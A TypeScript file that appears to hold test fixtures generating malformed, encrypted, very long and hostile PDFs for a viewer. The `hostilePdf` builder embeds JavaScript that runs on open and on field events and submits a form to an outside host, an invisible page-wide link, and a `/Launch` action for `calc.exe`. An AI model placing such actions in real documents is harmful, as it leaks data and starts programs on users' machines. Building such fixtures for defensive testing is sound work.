/** A PDF of these objects, the first of them its catalog; `trailer` is added to the trailer. */
export function pdfFrom(objects: readonly string[], trailer = ''): Buffer {
  let body = '%PDF-1.7\n';
  const places = objects.map((object, index) => {
    const place = body.length;
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(place).padStart(10, '0')} 00000 n \n`;
  });
  const size = objects.length + 1;
  return Buffer.from(
    `${body}xref\n0 ${size}\n0000000000 65535 f \n${places.join('')}trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${body.length}\n%%EOF\n`,
    'latin1',
  );
}

const textAt = (text: string) => {
  const content = `BT /F1 24 Tf 40 40 Td (${text}) Tj ET`;
  return `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;
};
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/**
 * Asks for all that a document can ask a viewer to do: scripts when it opens and in a field, a link and a program to be
 * followed by themselves and by a click on the whole page, a page of 200 inches.
 */
export const hostilePdf = (elsewhere: string): Buffer =>
  pdfFrom([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> >> /AcroForm << /Fields [8 0 R] >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14400 14400] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R /Annots [7 0 R 8 0 R] /AA << /O 9 0 R >> >>',
    FONT,
    textAt('Hostile'),
    `<< /S /JavaScript /JS (app.alert\\('owned'\\); document.title = 'owned'; this.submitForm\\('${elsewhere}/js'\\);) /Next 9 0 R >>`,
    '<< /Type /Annot /Subtype /Link /Rect [0 0 14400 14400] /Border [0 0 0] /A 9 0 R >>',
    '<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /V (v) /Rect [0 0 14400 14400] /AA << /F 6 0 R /U 6 0 R >> >>',
    `<< /S /URI /URI (${elsewhere}/link) /Next << /S /Launch /F (calc.exe) /NewWindow true >> >>`,
  ]);

/** Claims so many pages, and has them: one object, again and again. */
export const longPdf = (pages: number): Buffer =>
  pdfFrom([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${Array.from({ length: pages }, (_, n) => `${n + 5} 0 R`).join(' ')}] /Count ${pages} >>`,
    FONT,
    textAt('One of many'),
    ...Array.from(
      { length: pages },
      () =>
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R >>',
    ),
  ]);

/** Cannot be opened without a password. */
export const lockedPdf = (): Buffer =>
  pdfFrom(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] >>',
      `<< /Filter /Standard /V 1 /R 2 /P -4 /O <${'ab'.repeat(32)}> /U <${'cd'.repeat(32)}> >>`,
    ],
    `/Encrypt 4 0 R /ID [<${'01'.repeat(16)}> <${'01'.repeat(16)}>]`,
  );

/** Begins as a PDF, and is none. */
export const brokenPdf = (): Buffer => Buffer.from(`%PDF-1.7\n${'nothing of a document\n'.repeat(50)}`);
